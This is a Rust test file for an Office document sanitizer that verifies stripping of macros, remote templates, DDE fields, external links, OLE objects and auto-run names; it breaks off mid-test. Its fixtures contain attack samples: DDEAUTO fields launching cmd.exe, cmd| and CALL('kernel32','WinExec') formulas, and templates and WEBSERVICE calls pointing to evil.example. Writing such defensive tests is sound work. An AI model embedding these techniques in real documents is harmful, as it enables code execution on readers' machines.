use super::*;
use crate::formats::office::package::Member;
use crate::limits::{Budget, Limits};
use crate::policy::Policy;
use crate::{Verdict, sanitize_file};

const W_NS: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const R_NS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const RT: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// A docx-like package: (name, bytes) members.
fn package(members: &[(&str, &str)]) -> Vec<u8> {
    let mut w = PackageWriter::new();
    for (n, b) in members {
        w.deflated(n, b.as_bytes()).unwrap();
    }
    w.finish().unwrap()
}

fn types(main_ct: &str, extra: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CT_NS}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="png" ContentType="image/png"/><Override PartName="/word/document.xml" ContentType="{main_ct}"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>{extra}</Types>"#
    )
}

fn root_rels() -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL_NS}"><Relationship Id="rId1" Type="{RT}/officeDocument" Target="word/document.xml"/></Relationships>"#
    )
}

fn doc(body: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:body>{body}</w:body></w:document>"#
    )
}

fn doc_rels(rels: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL_NS}">{rels}</Relationships>"#
    )
}

fn read(bytes: &[u8]) -> Package {
    Package::read(bytes, &mut Budget::new(&Limits::default())).unwrap()
}

fn text(pkg: &Package, name: &str) -> String {
    String::from_utf8(pkg.get(name).unwrap().bytes.clone()).unwrap()
}

fn names(pkg: &Package) -> Vec<String> {
    pkg.members()
        .iter()
        .map(|m: &Member| m.name.clone())
        .collect()
}

fn run(input: &[u8], name: &str) -> crate::FileOutcome {
    sanitize_file(input, Some(name), &Policy::default())
}

#[test]
fn docm_loses_its_macros_and_becomes_docx() {
    let input = package(&[
        (
            "[Content_Types].xml",
            &types("application/vnd.ms-word.document.macroEnabled.main+xml", ""),
        ),
        ("_rels/.rels", &root_rels()),
        (
            "word/document.xml",
            &doc("<w:p><w:r><w:t>見積書</w:t></w:r></w:p>"),
        ),
        (
            "word/_rels/document.xml.rels",
            &doc_rels(
                r#"<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>"#,
            ),
        ),
        (
            "word/vbaProject.bin",
            "Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nEnd Sub",
        ),
    ]);
    let out = run(&input, "見積.docm");
    assert_eq!(out.report.verdict, Verdict::Sanitized, "{:?}", out.report);
    let file = out.output.unwrap();
    assert_eq!(file.name, "見積.docx");
    let threats = out.report.threats();
    assert!(threats.contains(&"ooxml.vba_macro"), "{threats:?}");
    assert!(threats.contains(&"ooxml.macro_enabled_type"), "{threats:?}");
    let pkg = read(file.bytes.as_slice());
    assert_eq!(names(&pkg)[0], "[Content_Types].xml");
    assert!(
        !names(&pkg).iter().any(|n| n.contains("vba")),
        "{:?}",
        names(&pkg)
    );
    let ct = text(&pkg, "[Content_Types].xml");
    assert!(ct.contains(WORD_MAIN) && !ct.contains("macroEnabled") && !ct.contains("vbaProject"));
    assert!(text(&pkg, "word/document.xml").contains("見積書"));
}

#[test]
fn remote_template_and_external_relationships_are_removed_hyperlinks_defanged() {
    let settings = format!(
        r#"<w:settings xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>"#
    );
    let input = package(&[
        ("[Content_Types].xml", &types(WORD_MAIN, "")),
        ("_rels/.rels", &root_rels()),
        (
            "word/document.xml",
            &doc(
                r#"<w:p><w:hyperlink r:id="rId5"><w:r><w:t>site</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="rId6" src="http://evil.example/x.png"/></w:pict></w:r></w:p>"#,
            ),
        ),
        (
            "word/_rels/document.xml.rels",
            &doc_rels(&format!(
                r#"<Relationship Id="rId2" Type="{RT}/settings" Target="settings.xml"/><Relationship Id="rId5" Type="{RT}/hyperlink" Target="https://example.jp/login" TargetMode="External"/><Relationship Id="rId6" Type="{RT}/image" Target="http://evil.example/track.png" TargetMode="External"/>"#
            )),
        ),
        ("word/settings.xml", &settings),
        (
            "word/_rels/settings.xml.rels",
            &doc_rels(&format!(
                r#"<Relationship Id="rId1" Type="{RT}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>"#
            )),
        ),
    ]);
    let out = run(&input, "a.docx");
    let threats = out.report.threats();
    for t in [
        "ooxml.attached_template",
        "ooxml.external_relationship",
        "link.rewritten",
    ] {
        assert!(threats.contains(&t), "{t} missing: {threats:?}");
    }
    let file = out.output.unwrap();
    assert_eq!(file.name, "a.docx");
    let pkg = read(file.bytes.as_slice());
    let all: String = pkg
        .members()
        .iter()
        .map(|m| String::from_utf8_lossy(&m.bytes).into_owned())
        .collect();
    assert!(!all.contains("evil.example"), "{all}");
    assert!(!all.contains("attachedTemplate"));
    let rels = text(&pkg, "word/_rels/document.xml.rels");
    assert!(rels.contains("hxxps://example[.]jp/login"), "{rels}");
    assert!(text(&pkg, "word/document.xml").contains("<w:hyperlink r:id=\"rId5\">"));
}

#[test]
fn dde_fields_lose_their_code_and_keep_their_result() {
    let body = r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:fldSimple w:instr=" DDEAUTO cmd /c calc"><w:r><w:t>simple</w:t></w:r></w:fldSimple></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#;
    let input = package(&[
        ("[Content_Types].xml", &types(WORD_MAIN, "")),
        ("_rels/.rels", &root_rels()),
        ("word/document.xml", &doc(body)),
    ]);
    let out = run(&input, "dde.docx");
    assert!(
        out.report.threats().contains(&"ooxml.dde"),
        "{:?}",
        out.report
    );
    let pkg = read(out.output.unwrap().bytes.as_slice());
    let d = text(&pkg, "word/document.xml");
    assert!(!d.to_ascii_uppercase().contains("DDE"), "{d}");
    assert!(!d.contains("cmd"), "{d}");
    assert!(
        d.contains("結果") && d.contains("simple") && d.contains("PAGE"),
        "{d}"
    );
}

#[test]
fn dde_built_by_nested_quote_fields_is_refused_nested_ordinary_fields_pass() {
    let fld = |t: &str| format!(r#"<w:r><w:fldChar w:fldCharType="{t}"/></w:r>"#);
    let instr =
        |t: &str| format!(r#"<w:r><w:instrText xml:space="preserve">{t}</w:instrText></w:r>"#);
    let obfuscated = format!(
        "<w:p>{}{}{}{}{}{}{}{}</w:p>",
        fld("begin"),
        fld("begin"),
        instr("QUOTE 68 68 69 65 85 84 79"),
        fld("end"),
        instr(r" c:\windows\system32\cmd.exe "),
        fld("separate"),
        r#"<w:r><w:t>x</w:t></w:r>"#,
        fld("end")
    );
    let input = package(&[
        ("[Content_Types].xml", &types(WORD_MAIN, "")),
        ("_rels/.rels", &root_rels()),
        ("word/document.xml", &doc(&obfuscated)),
    ]);
    let out = run(&input, "q.docx");
    assert_eq!(out.report.verdict, Verdict::Blocked, "{:?}", out.report);
    assert!(
        out.report.threats().contains(&"ooxml.dde"),
        "{:?}",
        out.report
    );

    // IF with a nested MERGEFIELD: the type (IF) is static, the document passes.
    let ordinary = format!(
        "<w:p>{}{}{}{}{}{}{}{}{}</w:p>",
        fld("begin"),
        instr(" IF "),
        fld("begin"),
        instr(" MERGEFIELD name "),
        fld("end"),
        instr(r#" = "a" "yes" "no" "#),
        fld("separate"),
        r#"<w:r><w:t>yes</w:t></w:r>"#,
        fld("end")
    );
    let input = package(&[
        ("[Content_Types].xml", &types(WORD_MAIN, "")),
        ("_rels/.rels", &root_rels()),
        ("word/document.xml", &doc(&ordinary)),
    ]);
    let out = run(&input, "if.docx");
    assert_eq!(out.report.verdict, Verdict::Clean, "{:?}", out.report);
}

#[test]
fn dde_formulas_and_external_links_leave_xlsx() {
    let types = format!(
        r#"<Types xmlns="{CT_NS}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="{SHEET_MAIN}"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>"#
    );
    let s_ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    let input = package(&[
        ("[Content_Types].xml", &types),
        (
            "_rels/.rels",
            &doc_rels(&format!(
                r#"<Relationship Id="rId1" Type="{RT}/officeDocument" Target="xl/workbook.xml"/>"#
            )),
        ),
        (
            "xl/workbook.xml",
            &format!(
                r#"<workbook xmlns="{s_ns}" xmlns:r="{R_NS}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>"#
            ),
        ),
        (
            "xl/_rels/workbook.xml.rels",
            &doc_rels(&format!(
                r#"<Relationship Id="rId1" Type="{RT}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="{RT}/externalLink" Target="externalLinks/externalLink1.xml"/>"#
            )),
        ),
        (
            "xl/worksheets/sheet1.xml",
            &format!(
                r#"<worksheet xmlns="{s_ns}"><sheetData><row r="1"><c r="A1"><f>cmd|'/c calc'!A0</f><v>0</v></c><c r="B1"><f>SUM(1,2)</f><v>3</v></c><c r="C1"><f>"a|b"&amp;"c"</f><v>a|bc</v></c></row></sheetData></worksheet>"#
            ),
        ),
        (
            "xl/externalLinks/externalLink1.xml",
            &format!(
                r#"<externalLink xmlns="{s_ns}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>"#
            ),
        ),
    ]);
    let out = run(&input, "dde.xlsx");
    let threats = out.report.threats();
    assert!(
        threats.contains(&"ooxml.dde") && threats.contains(&"ooxml.external_link"),
        "{threats:?}"
    );
    let pkg = read(out.output.unwrap().bytes.as_slice());
    assert!(!names(&pkg).iter().any(|n| n.contains("externalLink")));
    let wb = text(&pkg, "xl/workbook.xml");
    assert!(!wb.contains("externalReference"), "{wb}");
    let sheet = text(&pkg, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("cmd|"), "{sheet}");
    assert!(
        sheet.contains("<v>0</v>") && sheet.contains("SUM(1,2)") && sheet.contains("a|b"),
        "{sheet}"
    );
}

#[test]
fn activex_ole_and_custom_ui_are_removed() {
    let input = package(&[
        (
            "[Content_Types].xml",
            &types(
                WORD_MAIN,
                r#"<Default Extension="bin2" ContentType="application/vnd.ms-office.activeX"/>"#,
            ),
        ),
        (
            "_rels/.rels",
            &doc_rels(&format!(
                r#"<Relationship Id="rId1" Type="{RT}/officeDocument" Target="word/document.xml"/><Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2007/relationships/ui/extensibility" Target="customUI/customUI14.xml"/>"#
            )),
        ),
        (
            "word/document.xml",
            &doc(
                r#"<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Equation.3" r:id="rId7"/></w:object><w:t>本文</w:t></w:r></w:p><w:p><w:r><w:control r:id="rId8" w:name="CommandButton1"/></w:r></w:p>"#,
            ),
        ),
        (
            "word/_rels/document.xml.rels",
            &doc_rels(&format!(
                r#"<Relationship Id="rId7" Type="{RT}/oleObject" Target="embeddings/oleObject1.bin"/><Relationship Id="rId8" Type="{RT}/control" Target="activeX/activeX1.xml"/>"#
            )),
        ),
        (
            "word/embeddings/oleObject1.bin",
            "\u{d0}\u{cf}Equation Native",
        ),
        ("word/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"x\"/>"),
        ("customUI/customUI14.xml", "<customUI onLoad=\"Evil\"/>"),
    ]);
    let out = run(&input, "x.docx");
    let threats = out.report.threats();
    for t in ["ooxml.ole_object", "ooxml.activex", "ooxml.custom_ui"] {
        assert!(threats.contains(&t), "{t} missing: {threats:?}");
    }
    let pkg = read(out.output.unwrap().bytes.as_slice());
    assert_eq!(
        names(&pkg),
        ["[Content_Types].xml", "_rels/.rels", "word/document.xml"]
    );
    let d = text(&pkg, "word/document.xml");
    assert!(
        !d.contains("OLEObject") && !d.contains("w:control") && d.contains("本文"),
        "{d}"
    );
}

#[test]
fn click_actions_and_dde_defined_names_go() {
    let x = r#"<p:sld xmlns:p="p" xmlns:a="a" xmlns:r="r"><a:hlinkClick r:id="" action="ppaction://macro?name=Evil"/><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/><a:hlinkClick r:id="rId3" action="ppaction://program"/></p:sld>"#;
    let f = filter_part(
        "ppt/slides/slide1.xml",
        x.as_bytes(),
        &HashSet::new(),
        Flavor::Slides,
        LinkMode::Defang,
        Instant::now() + std::time::Duration::from_secs(5),
    )
    .unwrap();
    let out = String::from_utf8(f.bytes).unwrap();
    assert!(
        !out.contains("macro") && !out.contains("program") && out.contains("nextslide"),
        "{out}"
    );
    let ts: Vec<_> = f.counts.iter().map(|c| c.0).collect();
    assert!(ts.contains(&"ooxml.vba_macro") && ts.contains(&"ooxml.external_relationship"));

    let wb = r#"<workbook><definedNames><definedName name="a">cmd|'/c calc'!A0</definedName><definedName name="b">Sheet1!$A$1</definedName></definedNames></workbook>"#;
    let f = filter_part(
        "xl/workbook.xml",
        wb.as_bytes(),
        &HashSet::new(),
        Flavor::Sheet,
        LinkMode::Defang,
        Instant::now() + std::time::Duration::from_secs(5),
    )
    .unwrap();
    let out = String::from_utf8(f.bytes).unwrap();
    assert!(
        !out.contains("cmd|") && out.contains("Sheet1!$A$1"),
        "{out}"
    );
}

#[test]
fn raster_images_stay_metafiles_go() {
    let png = hex::decode("89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8cfc000000301010018dd8db00000000049454e44ae426082").unwrap();
    let emf = [
        1u8, 0, 0, 0, 0x6C, 0, 0, 0, 0, 0, 0, 0, 0x20, 0x45, 0x4D, 0x46,
    ];
    let mut w = PackageWriter::new();
    w.deflated(
        "[Content_Types].xml",
        types(
            WORD_MAIN,
            r#"<Default Extension="emf" ContentType="image/x-emf"/>"#,
        )
        .as_bytes(),
    )
    .unwrap();
    w.deflated("_rels/.rels", root_rels().as_bytes()).unwrap();
    w.deflated(
        "word/document.xml",
        doc(r#"<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="rId1"/><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="rId2"/></w:pict></w:r></w:p>"#).as_bytes(),
    )
    .unwrap();
    w.deflated(
        "word/_rels/document.xml.rels",
        doc_rels(&format!(r#"<Relationship Id="rId1" Type="{RT}/image" Target="media/image1.png"/><Relationship Id="rId2" Type="{RT}/image" Target="media/image2.emf"/>"#)).as_bytes(),
    )
    .unwrap();
    w.deflated("word/media/image1.png", &png).unwrap();
    w.deflated("word/media/image2.emf", &emf).unwrap();
    let input = w.finish().unwrap();
    let out = run(&input, "img.docx");
    assert!(
        out.report.threats().contains(&"ooxml.unknown_part"),
        "{:?}",
        out.report
    );
    let pkg = read(out.output.unwrap().bytes.as_slice());
    // The raster image is kept (re-encoded by the image sanitizer: still a PNG).
    assert!(
        pkg.get("word/media/image1.png")
            .unwrap()
            .bytes
            .starts_with(b"\x89PNG\r\n\x1a\n")
    );
    assert!(pkg.get("word/media/image2.emf").is_none());
    let rels = text(&pkg, "word/_rels/document.xml.rels");
    assert!(
        rels.contains("image1.png") && !rels.contains("image2.emf"),
        "{rels}"
    );
    let d = text(&pkg, "word/document.xml");
    assert!(d.contains("rId1") && !d.contains("rId2"), "{d}");
    assert!(
        text(&pkg, "[Content_Types].xml").contains(r#"Extension="png" ContentType="image/png""#)
    );
}

#[test]
fn many_external_relationships_make_a_bounded_report() {
    let many: String = (0..500)
        .map(|i| format!(r#"<Relationship Id="x{i}" Type="{RT}/image" Target="http://t.example/{i}.png" TargetMode="External"/>"#))
        .collect();
    let input = package(&[
        ("[Content_Types].xml", &types(WORD_MAIN, "")),
        ("_rels/.rels", &root_rels()),
        ("word/document.xml", &doc("")),
        ("word/_rels/document.xml.rels", &doc_rels(&many)),
    ]);
    let out = run(&input, "many.docx");
    assert!(out.output.is_some());
    assert!(
        out.report.items.len() <= 2 + crate::formats::office::MAX_ITEMS,
        "{}",
        out.report.items.len()
    );
    let last = out.report.items.last().unwrap();
    assert!(last.reason.starts_with("450 more"), "{last:?}");
}

#[test]
fn clean_docx_is_clean() {
    let input = package(&[
        ("[Content_Types].xml", &types(WORD_MAIN, "")),
        ("_rels/.rels", &root_rels()),
        (
            "word/document.xml",
            &doc("<w:p><w:r><w:t>こんにちは &amp; 世界</w:t></w:r></w:p>"),
        ),
    ]);
    let out = run(&input, "c.docx");
    assert_eq!(out.report.verdict, Verdict::Clean, "{:?}", out.report);
    let pkg = read(out.output.unwrap().bytes.as_slice());
    assert!(text(&pkg, "word/document.xml").contains("こんにちは &amp; 世界"));
}

#[test]
fn dtd_in_a_part_blocks_the_file() {
    let input = package(&[
        ("[Content_Types].xml", &types(WORD_MAIN, "")),
        ("_rels/.rels", &root_rels()),
        (
            "word/document.xml",
            "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY a \"aaaa\">]><d>&a;</d>",
        ),
    ]);
    let out = run(&input, "bomb.docx");
    assert_eq!(out.report.verdict, Verdict::Blocked);
    assert!(
        out.report.threats().contains(&"parse.failed"),
        "{:?}",
        out.report
    );
}

#[test]
fn recheck_fires_on_leftovers() {
    let ok_types = types(WORD_MAIN, "");
    let base = [
        ("[Content_Types].xml", ok_types.as_str()),
        ("_rels/.rels", &root_rels()),
        ("word/document.xml", &doc("")),
    ];
    let clean = package(&base);
    assert!(recheck(&clean, LinkMode::Defang).is_ok());

    let mut with_vba = base.to_vec();
    with_vba.push(("word/vbaProject.bin", "x"));
    assert!(matches!(
        recheck(&package(&with_vba), LinkMode::Defang),
        Err(SanitizeError::Recheck(_))
    ));

    let ext = doc_rels(&format!(
        r#"<Relationship Id="rId1" Type="{RT}/attachedTemplate" Target="http://x/t.dotm" TargetMode="External"/>"#
    ));
    let mut with_ext = base.to_vec();
    with_ext.push(("word/_rels/document.xml.rels", &ext));
    assert!(matches!(
        recheck(&package(&with_ext), LinkMode::Defang),
        Err(SanitizeError::Recheck(_))
    ));

    let live = doc_rels(&format!(
        r#"<Relationship Id="rId1" Type="{RT}/hyperlink" Target="https://example.jp/" TargetMode="External"/>"#
    ));
    let mut with_live = base.to_vec();
    with_live.push(("word/_rels/document.xml.rels", &live));
    assert!(matches!(
        recheck(&package(&with_live), LinkMode::Defang),
        Err(SanitizeError::Recheck(_))
    ));
    assert!(recheck(&package(&with_live), LinkMode::Keep).is_ok());

    let dde = doc(
        r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#,
    );
    let with_dde = [base[0], base[1], ("word/document.xml", dde.as_str())];
    assert!(matches!(
        recheck(&package(&with_dde), LinkMode::Defang),
        Err(SanitizeError::Recheck(_))
    ));

    let simple = doc(
        r#"<w:p><w:fldSimple w:instr=" DDEAUTO cmd"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"#,
    );
    let with_simple = [base[0], base[1], ("word/document.xml", simple.as_str())];
    assert!(matches!(
        recheck(&package(&with_simple), LinkMode::Defang),
        Err(SanitizeError::Recheck(_))
    ));

    let action = doc(r#"<a:hlinkClick xmlns:a="a" action="ppaction://macro?name=X"/>"#);
    let with_action = [base[0], base[1], ("word/document.xml", action.as_str())];
    assert!(matches!(
        recheck(&package(&with_action), LinkMode::Defang),
        Err(SanitizeError::Recheck(_))
    ));

    let mut bad_order = base.to_vec();
    bad_order.swap(0, 1);
    assert!(matches!(
        recheck(&package(&bad_order), LinkMode::Defang),
        Err(SanitizeError::Recheck(_))
    ));
}

#[test]
fn deadline_limit_trips() {
    let body = "<w:p><w:r><w:t>行</w:t></w:r></w:p>".repeat(50_000);
    let input = package(&[
        ("[Content_Types].xml", &types(WORD_MAIN, "")),
        ("_rels/.rels", &root_rels()),
        ("word/document.xml", &doc(&body)),
    ]);
    let policy = Policy::from_toml("[limits]\ndeadline_ms = 1\nmax_ratio = 100000\n").unwrap();
    let out = sanitize_file(&input, Some("a.docx"), &policy);
    assert_eq!(out.report.verdict, Verdict::Blocked, "{:?}", out.report);
    assert!(
        out.report.threats().contains(&"limit.deadline"),
        "{:?}",
        out.report
    );
    // The same document within the default limits goes through.
    let out = sanitize_file(&input, Some("a.docx"), &Policy::default());
    assert_eq!(out.report.verdict, Verdict::Clean, "{:?}", out.report.items);
}

#[test]
fn rasterize_mode_fails_closed_without_converter_or_pdf_sanitizer() {
    let input = package(&[
        ("[Content_Types].xml", &types(WORD_MAIN, "")),
        ("_rels/.rels", &root_rels()),
        (
            "word/document.xml",
            &doc("<w:p><w:r><w:t>x</w:t></w:r></w:p>"),
        ),
    ]);
    let policy = Policy::from_toml("[office]\nrasterize = true\n").unwrap();
    let out = sanitize_file(&input, Some("r.docx"), &policy);
    assert_eq!(out.report.verdict, Verdict::Blocked, "{:?}", out.report);
    assert!(
        out.report.items[0].reason.contains("LibreOffice"),
        "{:?}",
        out.report
    );
}

#[test]
fn helpers_behave() {
    assert_eq!(
        resolve("word/document.xml", "../customXml/item1.xml").as_deref(),
        Some("customXml/item1.xml")
    );
    assert_eq!(
        resolve("word/document.xml", "/word/media/a%20b.png").as_deref(),
        Some("word/media/a b.png")
    );
    assert_eq!(resolve("word/document.xml", "../../x"), None);
    assert_eq!(
        rels_name("word/document.xml"),
        "word/_rels/document.xml.rels"
    );
    assert!(auto_run_name("_xlnm.Auto_Open") && auto_run_name("Excel_BuiltIn_Auto_Open"));
    assert!(auto_run_name("auto_open_x1") && auto_run_name("Auto_Close"));
    assert!(!auto_run_name("Print_Area") && !auto_run_name("AutoOpenReport"));
    assert_eq!(field_kind(" DDEAUTO c:\\x"), FieldKind::Dde);
    assert_eq!(
        field_kind("INCLUDEPICTURE \"http://x/y.png\""),
        FieldKind::Include
    );
    assert!(
        looks_external("file:///c:/x")
            && looks_external("\\\\host\\share")
            && !looks_external("media/a.png")
    );
}

fn sheet_filter(part: &str, xml: &str) -> (String, Vec<&'static str>) {
    let f = filter_part(
        part,
        xml.as_bytes(),
        &HashSet::new(),
        Flavor::Sheet,
        LinkMode::Defang,
        Instant::now() + std::time::Duration::from_secs(5),
    )
    .unwrap();
    (
        String::from_utf8(f.bytes).unwrap(),
        f.counts.iter().map(|c| c.0).collect(),
    )
}

#[test]
fn formulas_reaching_outside_lose_their_formula_keep_their_value() {
    // The issue's sample: a DDE() call (no `|`), plus the functions and references that reach
    // outside the workbook, and a shared formula whose dependants must go with it.
    let sheet = r#"<worksheet><sheetData><row r="1"><c r="A1"><f>DDE("cmd","/c calc.exe","A1")</f><v>0</v></c><c r="B1"><f>_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)</f><v>1</v></c><c r="C1"><f>[1]Sheet1!A1</f><v>2</v></c><c r="D1"><f>'\\server\share\[b.xls]S'!A1</f><v>3</v></c><c r="E1"><f>CALL("kernel32","WinExec","JCJ","calc",0)</f><v>4</v></c></row><row r="2"><c r="A2"><f t="shared" si="0" ref="A2:A4">RTD("x",,A1)</f><v>5</v></c><c r="A3"><f t="shared" si="0"/><v>6</v></c><c r="B2"><f t="shared" si="1" ref="B2:B3">SUM(A1:A9)</f><v>7</v></c><c r="B3"><f t="shared" si="1"/><v>8</v></c></row></sheetData></worksheet>"#;
    let (out, ts) = sheet_filter("xl/worksheets/sheet1.xml", sheet);
    for bad in [
        "DDE",
        "WEBSERVICE",
        "[1]",
        "server",
        "CALL",
        "RTD",
        r#"si="0""#,
    ] {
        assert!(!out.contains(bad), "{bad}: {out}");
    }
    for v in 0..=8 {
        assert!(out.contains(&format!("<v>{v}</v>")), "{v}: {out}");
    }
    assert!(out.contains("SUM(A1:A9)") && out.contains(r#"<f t="shared" si="1"/>"#));
    assert!(ts.contains(&"ooxml.dde") && ts.contains(&"ooxml.external_formula"));
}

#[test]
fn auto_run_names_leave_the_workbook() {
    let wb = r#"<workbook><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName><definedName name="Excel_BuiltIn_Auto_Close" hidden="1">Macro1!$A$9</definedName><definedName name="Auto_Open_x">Macro1!$A$1</definedName><definedName name="Totals">Sheet1!$A$1</definedName><definedName name="Feed">WEBSERVICE("http://x.example/")</definedName></definedNames></workbook>"#;
    let (out, ts) = sheet_filter("xl/workbook.xml", wb);
    assert!(
        !out.contains("Auto_") && !out.contains("WEBSERVICE"),
        "{out}"
    );
    assert!(out.contains("Sheet1!$A$1"), "{out}");
    assert!(ts.contains(&"ooxml.auto_run_name") && ts.contains(&"ooxml.external_formula"));
    // The re-check sees what the rebuild would have missed.
    assert!(
        formula_problem(
            "xl/workbook.xml",
            wb.as_bytes(),
            Instant::now() + std::time::Duration::from_secs(5)
        )
        .unwrap()
        .is_some()
    );
    assert!(
        formula_problem(
            "xl/workbook.xml",
            out.as_bytes(),
            Instant::now() + std::time::Duration::from_secs(5)
        )
        .unwrap()
        .is_none()
    );
}

#[test]
fn hyperlink_fields_follow_the_link_policy_even_split_over_runs() {
    let instr =
        |t: &str| format!(r#"<w:r><w:instrText xml:space="preserve">{t}</w:instrText></w:r>"#);
    let field = |pieces: &[&str], result: &str| {
        let mut f = r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>"#.to_owned();
        for p in pieces {
            f.push_str(&instr(p));
        }
        f.push_str(&format!(r#"<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#));
        f
    };
    let body = [
        field(&[" HYPERLINK \"http://www.", "evil.example/a\" \\o \"tip\" "], "split"),
        field(&[" HYPERLINK \"file:///c:/windows/system32/calc.exe\" "], "local"),
        field(&[" HYPERLINK \\\\server\\share\\x.exe "], "unc"),
        field(&[" HYPERLINK \\l \"section2\" "], "bookmark"),
        field(&[" INCLUDEPICTURE \"http://tracker.example/p.png\" \\d "], "pic"),
        r#"<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://evil.example/b&quot; "><w:r><w:t>simple</w:t></w:r></w:fldSimple></w:p>"#.to_owned(),
    ]
    .concat();
    let input = package(&[
        ("[Content_Types].xml", &types(WORD_MAIN, "")),
        ("_rels/.rels", &root_rels()),
        ("word/document.xml", &doc(&body)),
    ]);
    let out = run(&input, "links.docx");
    let threats = out.report.threats();
    assert!(
        threats.contains(&"link.rewritten") && threats.contains(&"ooxml.external_link"),
        "{threats:?}"
    );
    let pkg = read(out.output.unwrap().bytes.as_slice());
    let d = text(&pkg, "word/document.xml");
    for live in ["&quot;http", "&quot;file:", "\\\\server", "tracker"] {
        assert!(!d.contains(live), "{live}: {d}");
    }
    assert!(d.contains("hxxp://www[.]evil[.]example/a"), "{d}");
    assert!(d.contains("hxxps://evil[.]example/b"), "{d}");
    assert!(d.contains("about:blank") && d.contains("section2"), "{d}");
    for r in ["split", "local", "unc", "bookmark", "pic", "simple"] {
        assert!(d.contains(r), "{r}: {d}");
    }
    // Every HYPERLINK instruction left is inert.
    let fields = word_fields(
        "d",
        d.as_bytes(),
        Instant::now() + std::time::Duration::from_secs(5),
    )
    .unwrap();
    assert!(fields.iter().all(|f| field_link_ok(f)), "{fields:?}");
}

#[test]
fn field_targets_are_found_and_rewritten() {
    assert_eq!(
        rewrite_field(
            r#" HYPERLINK "http://a.example/x" \o "t""#,
            LinkMode::Defang
        )
        .as_deref(),
        Some(r#" HYPERLINK "hxxp://a[.]example/x" \o "t""#)
    );
    assert_eq!(
        rewrite_field("HYPERLINK https://a.example", LinkMode::Remove).as_deref(),
        Some("HYPERLINK [link removed]")
    );
    assert_eq!(rewrite_field(r#"HYPERLINK \l "x""#, LinkMode::Defang), None);
    assert_eq!(
        rewrite_field(r#"HYPERLINK "hxxp://a[.]jp""#, LinkMode::Defang),
        None
    );
    assert_eq!(
        rewrite_field(r#"HYPERLINK "ms-msdt:/id x""#, LinkMode::Keep).as_deref(),
        Some(r#"HYPERLINK "about:blank""#)
    );
    assert!(!field_link_ok(r#"HYPERLINK "http://a.example""#));
}

#[test]
fn binary_workbooks_are_unsupported_not_malformed() {
    let types = format!(
        r#"<Types xmlns="{CT_NS}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>"#
    );
    let input = package(&[
        ("[Content_Types].xml", &types),
        (
            "_rels/.rels",
            &doc_rels(&format!(
                r#"<Relationship Id="rId1" Type="{RT}/officeDocument" Target="xl/workbook.bin"/>"#
            )),
        ),
        ("xl/workbook.bin", "binary"),
